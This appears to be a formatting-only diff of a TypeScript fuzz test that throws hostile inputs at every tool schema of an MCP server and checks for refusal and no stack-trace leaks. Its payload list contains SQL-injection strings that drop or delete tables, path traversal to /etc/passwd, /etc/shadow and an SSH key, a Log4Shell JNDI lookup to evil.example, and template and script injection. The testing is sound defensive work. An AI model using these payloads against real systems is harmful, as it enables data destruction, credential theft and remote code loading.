@@ -21,15 +21,61 @@ import { HELD_INVOICE, startHarness, textOf, VALID_TOOL_INPUTS, writesIn, type M
 const VALID = VALID_TOOL_INPUTS;
 
 const SHAPED = [
-  "'; DROP TABLE audit_log; --", "1' OR '1'='1", 'invoice_id = 1; DELETE FROM proposals', "$$; truncate audit_log; $$",
-  '../../../../etc/passwd', '..\\..\\windows\\system32\\config', '/etc/shadow', 'file:///etc/passwd', 'inbox/../../.ssh/id_rsa',
-  '${jndi:ldap://evil.example/a}', '{{7*7}}', '<script>alert(1)</script>', '__proto__', 'constructor', '%00', 'null', 'NaN',
+  "'; DROP TABLE audit_log; --",
+  "1' OR '1'='1",
+  'invoice_id = 1; DELETE FROM proposals',
+  '$$; truncate audit_log; $$',
+  '../../../../etc/passwd',
+  '..\\..\\windows\\system32\\config',
+  '/etc/shadow',
+  'file:///etc/passwd',
+  'inbox/../../.ssh/id_rsa',
+  '${jndi:ldap://evil.example/a}',
+  '{{7*7}}',
+  '<script>alert(1)</script>',
+  '__proto__',
+  'constructor',
+  '%00',
+  'null',
+  'NaN',
 ];
-const CONTROL = fc.string({ unit: fc.constantFrom('\u0000', '\u0007', '\u001b', '\u202e', '\u200b', '\ufeff', '\ud800', '\udfff', '\u2028', 'a', '1', ' '), maxLength: 60 });
+const CONTROL = fc.string({
+  unit: fc.constantFrom(
+    '\u0000',
+    '\u0007',
+    '\u001b',
+    '\u202e',
+    '\u200b',
+    '\ufeff',
+    '\ud800',
+    '\udfff',
+    '\u2028',
+    'a',
+    '1',
+    ' ',
+  ),
+  maxLength: 60,
+});
 
 /** Hostile values for one field. */
 const hostile: fc.Arbitrary<unknown> = fc.oneof(
-  fc.constantFrom(null, true, false, [], {}, '', 0, -1, -0, 1.5, 1e308, -1e308, 2 ** 63, Number.MAX_SAFE_INTEGER + 2, 4_294_967_297),
+  fc.constantFrom(
+    null,
+    true,
+    false,
+    [],
+    {},
+    '',
+    0,
+    -1,
+    -0,
+    1.5,
+    1e308,
+    -1e308,
+    2 ** 63,
+    Number.MAX_SAFE_INTEGER + 2,
+    4_294_967_297,
+  ),
   fc.constantFrom(...SHAPED),
   CONTROL,
   fc.integer({ min: 0, max: 50 }).map((n) => 'x'.repeat(100_000 + n)),
@@ -51,13 +97,19 @@ async function call(client: Client, name: string, args: Record<string, unknown>)
     return { refused: r.isError === true, text: textOf(r) };
   } catch (error) {
     if (error instanceof McpError && error.code !== -32603) return { refused: true, text: error.message };
-    if (error instanceof StreamableHTTPError && error.code !== undefined && error.code >= 400 && error.code < 500) return { refused: true, text: error.message };
+    if (error instanceof StreamableHTTPError && error.code !== undefined && error.code >= 400 && error.code < 500)
+      return { refused: true, text: error.message };
     throw error;
   }
 }
 
 function leaks(text: string): boolean {
-  return /\n\s+at\s/.test(text) || /\bat .+\.(?:ts|js):\d+/.test(text) || text.includes('Error: [') || /internal server error/i.test(text);
+  return (
+    /\n\s+at\s/.test(text) ||
+    /\bat .+\.(?:ts|js):\d+/.test(text) ||
+    text.includes('Error: [') ||
+    /internal server error/i.test(text)
+  );
 }
 
 describe('hostile input for every tool schema', () => {
@@ -66,7 +118,12 @@ describe('hostile input for every tool schema', () => {
   beforeAll(async () => {
     h = await startHarness({ mount: { rateLimitPerMinute: 1_000_000 } });
     const scope = createCaseScope(HELD_INVOICE);
-    const server = createMcpServer({ guard: h.runtime.guard, identity: AGENT_IDENTITY, policies: h.runtime.policies, scope });
+    const server = createMcpServer({
+      guard: h.runtime.guard,
+      identity: AGENT_IDENTITY,
+      policies: h.runtime.policies,
+      scope,
+    });
     const [a, b] = InMemoryTransport.createLinkedPair();
     await server.connect(a);
     agent = new Client({ name: 'fuzz-agent', version: '1' });
@@ -75,7 +132,9 @@ describe('hostile input for every tool schema', () => {
   afterAll(async () => {
     await agent?.close();
     await h?.close();
-    console.info(`[adversarial] hostile schema input: ${COUNTS.tried} calls tried, ${COUNTS.refused} refused, ${COUNTS.wrong} wrong outcomes`);
+    console.info(
+      `[adversarial] hostile schema input: ${COUNTS.tried} calls tried, ${COUNTS.refused} refused, ${COUNTS.wrong} wrong outcomes`,
+    );
   });
 
   it('has a valid example for every tool', () => {
@@ -114,7 +173,10 @@ describe('hostile input for every tool schema', () => {
         );
       }
       // Still healthy afterwards.
-      const ok = await client.callTool({ name: 'get_invoice', arguments: transport === 'person over HTTP' ? { invoice_id: HELD_INVOICE } : {} });
+      const ok = await client.callTool({
+        name: 'get_invoice',
+        arguments: transport === 'person over HTTP' ? { invoice_id: HELD_INVOICE } : {},
+      });
       expect(ok.isError).toBeFalsy();
     }, 600_000);
   }
